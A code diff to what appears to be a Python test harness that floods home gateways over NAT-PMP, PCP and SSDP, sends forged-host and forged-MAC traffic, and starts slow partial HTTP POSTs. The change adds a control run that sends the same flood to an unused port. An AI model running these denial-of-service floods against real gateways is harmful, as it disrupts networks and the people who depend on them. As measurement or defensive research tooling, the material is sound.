@@ -180,13 +180,14 @@ def flood(name: str, attacker: Attacker) -> int:
         "flood-5351": ([floods.natpmp_ask()], PORT_CONTROL),
         "pcp-refresh": (floods.pcp_refreshes(attacker.own), PORT_CONTROL),
         "flood-ssdp": ([SEARCH], SSDP),
+        NOBODY: ([floods.natpmp_ask()], 9),
     }[name]
     return floods.flood(gateway, port, messages, PER_S, until)
 
 
 def attack(name: str, attacker: Attacker) -> int:
     """How many tries it was."""
-    if name in FLOODS:
+    if name in (NOBODY, *FLOODS):
         return flood(name, attacker)
     half_head = attacker.head(f"POST {attacker.control} HTTP/1.1")[:-2]
     half_body = attacker.change(4000)[:-20]
@@ -215,6 +216,8 @@ def attack(name: str, attacker: Attacker) -> int:
     return min(attacker.tries, attacker.count)
 
 
+NOBODY = "flood-nobody"
+"""No attack: the same flood to a port of the gateway where nobody listens. What it costs is the machine's alone."""
 FLOODS = ("flood-5351", "pcp-refresh", "zero-window", "flood-ssdp", "forged-hosts", "forged-macs")
 """From one host as fast as it can, in its own name and in the name of others."""
 ATTACKS = (
